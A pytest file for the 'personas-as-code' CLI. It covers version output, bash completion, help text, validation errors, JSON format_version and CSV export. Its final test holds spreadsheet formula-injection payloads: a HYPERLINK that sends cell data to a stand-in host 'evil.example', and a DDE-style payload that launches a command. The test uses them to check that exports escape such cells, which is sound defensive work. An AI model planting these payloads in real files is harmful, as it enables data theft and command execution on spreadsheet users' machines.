"""CLI habits through the real console entry point: --version, shell completion, help
read through a pipe, validate outside a persona repo, ``format_version`` in every JSON
output, and CSV cells that a spreadsheet would run as formulas."""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
from pathlib import Path

import typer
import typer.main
from personas_as_code.cli.main import app

import personas_as_code
from tests.cli.test_validate_cmd import run
from tests.repos import MINIMAL, RepoBuilder

ROOT = Path(__file__).resolve().parents[2]


def test_version_prints_the_distribution_version(tmp_path: Path) -> None:
    result = run("--version", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert result.stdout == f"personas-as-code {personas_as_code.__version__}\n"
    assert personas_as_code.__version__ not in ("", "0+unknown")  # read from the install


def test_bash_completion_script_and_protocol_name_the_commands(tmp_path: Path) -> None:
    # typer's own switch: take the shell from the argument instead of detecting it from
    # the process tree (which differs between a terminal, CI and a background job)
    script = subprocess.run(
        [sys.executable, "-m", "personas_as_code.cli.main", "--show-completion", "bash"],
        cwd=tmp_path,
        env={"PYTHONPATH": str(ROOT), "_TYPER_COMPLETE_TEST_DISABLE_SHELL_DETECTION": "1"},
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert script.returncode == 0, script.stderr
    assert "complete -o default -F _personas_completion personas" in script.stdout
    assert "_PERSONAS_COMPLETE=complete_bash" in script.stdout
    # what the script asks the program when a user presses tab after "personas "
    env = {
        "PYTHONPATH": str(ROOT),
        "_PERSONAS_COMPLETE": "complete_bash",
        "COMP_WORDS": "personas ",
        "COMP_CWORD": "1",
    }
    completion = subprocess.run(
        [sys.executable, "-m", "personas_as_code.cli.main"],
        cwd=tmp_path,
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert completion.returncode == 0, completion.stderr
    offered = completion.stdout.split()
    assert {"validate", "plan", "apply", "export", "test", "catalogue"} <= set(offered)
    # and for options of a command
    env.update(COMP_WORDS="personas plan --det", COMP_CWORD="2")
    options = subprocess.run(
        [sys.executable, "-m", "personas_as_code.cli.main"],
        cwd=tmp_path,
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert options.stdout.split() == ["--detailed-exitcode"]


def _commands(group, path: tuple[str, ...] = ()):
    """Every command path of the CLI with its click command."""
    yield path, group
    if hasattr(group, "list_commands"):
        ctx = typer.Context(group)
        for name in group.list_commands(ctx):
            yield from _commands(group.get_command(ctx, name), (*path, name))


def test_help_through_a_pipe_names_every_option_whole(tmp_path: Path) -> None:
    seen = 0
    for path, command in _commands(typer.main.get_command(app)):
        result = run(*path, "--help", cwd=tmp_path)  # stdout is a pipe, not a terminal
        assert result.returncode == 0, (path, result.stderr)
        words = set(result.stdout.replace(",", " ").replace("/", " ").split())
        for param in command.params:
            for option in (*param.opts, *param.secondary_opts):
                if option.startswith("-"):
                    assert option in words, (path, option, result.stdout)
                    seen += 1
        cut = [line for line in result.stdout.splitlines()[1:] if line.endswith(("...", "…"))]
        assert not cut, (path, cut)
    assert seen > 40  # the loop really looked at the options


def test_run_help_keeps_brackets_literal(tmp_path: Path) -> None:
    # help is plain text: "[backends]" is not eaten as markup
    result = run("--help", cwd=tmp_path)
    assert "mirror until [backends] in personas.toml configures one" in " ".join(
        result.stdout.split()
    )


def test_validate_without_personas_toml_is_an_error_naming_it(tmp_path: Path) -> None:
    (tmp_path / "personas").mkdir()
    (tmp_path / "personas" / "minimal.yaml").write_text(MINIMAL)
    result = run("validate", cwd=tmp_path)
    assert result.returncode == 1
    assert result.stdout == ""
    (line,) = result.stderr.splitlines()
    assert line.startswith("error CONFIG_ERROR: ")
    assert f"{tmp_path.resolve() / 'personas.toml'} not found" in line
    # in JSON mode the error is the JSON error object on stdout (issue 20)
    result = run("validate", "--format", "json", cwd=tmp_path)
    assert result.returncode == 1 and result.stderr == ""
    error = json.loads(result.stdout)["error"]
    assert error["code"] == "CONFIG_ERROR"
    assert f"{tmp_path.resolve() / 'personas.toml'} not found" in error["message"]
    missing_dir = run("validate", "--repo", str(tmp_path / "nowhere"), cwd=tmp_path)
    assert missing_dir.returncode == 1
    assert "personas.toml not found" in missing_dir.stderr


def test_validate_and_export_json_carry_format_version(repo: RepoBuilder) -> None:
    repo.persona("minimal", MINIMAL)
    validated = run("validate", "--format", "json", cwd=repo.root)
    assert validated.returncode == 0, validated.stderr
    assert json.loads(validated.stdout)["format_version"] == 1
    exported = run("export", "--format", "json", cwd=repo.root)
    assert exported.returncode == 0, exported.stderr
    document = json.loads(exported.stdout)
    assert document["format_version"] == 1
    assert [p["slug"] for p in document["personas"]] == ["minimal"]


def test_apply_json_carries_format_version(repo: RepoBuilder) -> None:
    repo.persona("minimal", MINIMAL)
    env = {k: v for k, v in os.environ.items() if not k.startswith(("SCAIGRID_", "PERSONAS_"))}
    env["PYTHONPATH"] = str(ROOT)
    command = [sys.executable, "-m", "personas_as_code.cli.main", "apply", "--auto-approve"]
    for applied in (1, 0):  # a real apply, then the no-change answer
        result = subprocess.run(
            [*command, "--format", "json"],
            cwd=repo.root,
            env=env,
            capture_output=True,
            text=True,
            timeout=120,
        )
        assert result.returncode == 0, result.stderr
        data = json.loads(result.stdout)
        assert data["format_version"] == 1 and data["applied"] == applied


FORMULAS = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "description": "+1+cmd|' /C calc'!A0",
    "model": "scaigrid/gpt-4o",
    "prompt": "-2+3",
}


def test_csv_export_guards_cells_a_spreadsheet_would_run(repo: RepoBuilder) -> None:
    repo.persona(
        "formulas",
        "name: " + json.dumps(FORMULAS["name"]) + "\n"
        "model: scaigrid/gpt-4o\n"
        "description: " + json.dumps(FORMULAS["description"]) + "\n"
        "system_prompt: " + json.dumps(FORMULAS["prompt"]) + "\n"
        "publish: {enabled: true, groups: ['@group']}\n",
    )
    repo.persona("tabbed", 'name: "\\tTabbed"\nmodel: scaigrid/gpt-4o\nsystem_prompt: "\\rhi"\n')
    repo.persona("plain", "name: Plain - Helper\nmodel: scaigrid/gpt-4o\ndescription: a = b\n")
    result = run("export", "--output", "personas.csv", cwd=repo.root)
    assert result.returncode == 0, result.stderr
    with (repo.root / "personas.csv").open(newline="", encoding="utf-8") as exported:
        rows = {r["slug"]: r for r in csv.DictReader(exported)}
    formulas, tabbed, plain = rows["formulas"], rows["tabbed"], rows["plain"]
    assert formulas["name"] == "'" + FORMULAS["name"]
    assert formulas["description"] == "'" + FORMULAS["description"]
    assert formulas["system_prompt"] == "'" + FORMULAS["prompt"]
    assert formulas["groups"] == "'@group"
    assert tabbed["name"] == "'\tTabbed" and tabbed["system_prompt"] == "'\rhi"
    # cells that start harmlessly are untouched, formula characters inside included
    assert plain["name"] == "Plain - Helper" and plain["description"] == "a = b"
    assert formulas["model"] == "scaigrid/gpt-4o" and formulas["published"] == "True"
    for row in rows.values():
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (row["slug"], value)
